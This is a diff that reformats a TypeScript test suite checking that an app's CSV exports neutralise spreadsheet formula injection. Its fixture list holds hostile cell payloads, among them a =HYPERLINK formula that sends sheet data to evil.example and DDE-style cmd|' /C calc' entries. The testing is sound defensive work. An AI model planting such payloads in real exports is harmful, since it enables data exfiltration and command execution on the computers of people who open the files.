@@ -13,7 +13,15 @@ import { createObligation } from "../obligations/helpers";
 
 // CSV injection: a cell that starts with = + - @ tab or CR runs as a formula when the file is opened in a
 // spreadsheet (=HYPERLINK can send the sheet's data away). Every CSV Actlas writes must neutralise such cells.
-const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\nsecond line"];
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "=1+1\nsecond line",
+];
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 async function textOf(stream: ReadableStream<Uint8Array>): Promise<string> {
@@ -54,7 +62,9 @@ async function hostileOrganisation() {
 describe("every CSV export neutralises formula cells", () => {
   it("the dossier ZIP's manifest.csv", async () => {
     const { admin, systems } = await hostileOrganisation();
-    const zip = Buffer.from(await new Response(dossierZipStream(admin, systems, new AbortController().signal)).arrayBuffer());
+    const zip = Buffer.from(
+      await new Response(dossierZipStream(admin, systems, new AbortController().signal)).arrayBuffer(),
+    );
     expectNeutralised(cells(manifestOf(zip)));
   });
 
@@ -65,7 +75,11 @@ describe("every CSV export neutralises formula cells", () => {
 
   it("the obligations export", async () => {
     const { admin } = await hostileOrganisation();
-    expectNeutralised(cells(await textOf(obligationsCsvStream(await exportObligations(admin, parseObligationListParams({ status: "" }))))));
+    expectNeutralised(
+      cells(
+        await textOf(obligationsCsvStream(await exportObligations(admin, parseObligationListParams({ status: "" })))),
+      ),
+    );
   });
 
   it("the import template", () => {
